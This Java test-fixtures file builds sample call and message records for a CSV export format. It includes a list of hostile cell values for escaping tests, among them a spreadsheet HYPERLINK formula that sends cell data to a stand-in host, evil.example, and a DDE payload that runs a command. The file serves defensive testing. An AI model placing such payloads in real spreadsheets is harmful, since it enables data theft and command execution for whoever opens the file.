package io.custodian.offload.format;

import io.custodian.media.AudioEncoding;
import io.custodian.records.Location;
import io.custodian.records.Message;
import io.custodian.records.Participant;
import io.custodian.records.Recording;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/** Records and hostile values for the format tests, and a standard reader to parse CSVs back. */
final class Fixtures {

  static final Instant STARTED = Instant.parse("2026-11-21T23:30:00Z");
  static final Instant ENDED = Instant.parse("2026-11-21T23:31:02.500Z");
  static final Instant RECEIVED = Instant.parse("2026-11-21T23:31:05.123456Z");

  /** Values that have broken CSV files and spreadsheets, each meant to stay inside its cell. */
  static final List<String> HOSTILE =
      List.of(
          "line\r\nbreak",
          "lone\rCR",
          "lone\nLF",
          "\r\n",
          "say \"hi\"",
          "\"",
          "a,b,c",
          ",",
          "nul\0byte",
          "\0",
          "line\u2028separator\u2029paragraph",
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
          "=1+1",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1:A2)",
          "\tTAB first",
          "\rCR first",
          "'already quoted",
          "''",
          "emoji 😀👍🏽 family 👨‍👩‍👧 flag 🇬🇧",
          "😀",
          "עברית שלום \u202Eoverride\u202C العربية",
          "back\\slash|pipe:colon\\|",
          " leading and trailing spaces ",
          "x".repeat(10_000),
          "=" + "é😀,\"\r\n".repeat(2_000),
          "");

  private static final AtomicLong INTAKE = new AtomicLong(1000);

  private Fixtures() {}

  /** A call with the next intake sequence number. */
  static Recording recording(String sourceId, List<Participant> parties, Location location) {
    return new Recording(
        UUID.randomUUID(),
        "acme",
        "acme-uk",
        INTAKE.incrementAndGet(),
        sourceId,
        "call-1",
        "outbound",
        parties,
        STARTED,
        ENDED,
        "device-7",
        location,
        new Recording.Audio(
            UUID.randomUUID(),
            "pcm_s16le",
            1,
            8000,
            62_500,
            1_000_044,
            sha256Hex("original"),
            1_000_000),
        RECEIVED,
        Recording.Delivery.NONE,
        new byte[32]);
  }

  static VoiceFile delivered(Recording call) {
    return new VoiceFile(
        FileNames.wav(call.id()), 500_058, sha256Hex("delivered"), AudioEncoding.ULAW, 8000, 1);
  }

  /** A message with the next intake sequence number. */
  static Message message(String from, List<String> to, String body, List<String> names) {
    List<Message.Attachment> attachments = new ArrayList<>();
    for (int i = 0; i < names.size(); i++) {
      attachments.add(
          new Message.Attachment(
              i,
              "image/jpeg",
              names.get(i),
              new Message.Content(UUID.randomUUID(), 10, sha256Hex("a" + i))));
    }
    byte[] utf8 = body.getBytes(StandardCharsets.UTF_8);
    return new Message(
        UUID.randomUUID(),
        "acme",
        null,
        INTAKE.incrementAndGet(),
        "msg-1",
        "whatsapp",
        "inbound",
        from,
        to,
        STARTED,
        "thread-9",
        new Message.Content(UUID.randomUUID(), utf8.length, HexFormat.of().formatHex(sha256(utf8))),
        attachments,
        RECEIVED,
        Message.Delivery.NONE,
        new byte[32]);
  }

  /** Parses {@code csv} with commons-csv's RFC 4180 format, the header as the first record. */
  static List<CSVRecord> parse(byte[] csv) throws IOException {
    try (CSVParser parser =
        CSVParser.parse(
            new StringReader(new String(csv, StandardCharsets.UTF_8)), CSVFormat.RFC4180)) {
      return parser.getRecords();
    }
  }

  /** The value a guarded cell stands for: one leading {@code '} removed, as documented. */
  static String unguarded(String cell) {
    return cell.startsWith("'") ? cell.substring(1) : cell;
  }

  static String sha256Hex(String text) {
    return HexFormat.of().formatHex(sha256(text.getBytes(StandardCharsets.UTF_8)));
  }

  static byte[] sha256(byte[] bytes) {
    try {
      return MessageDigest.getInstance("SHA-256").digest(bytes);
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
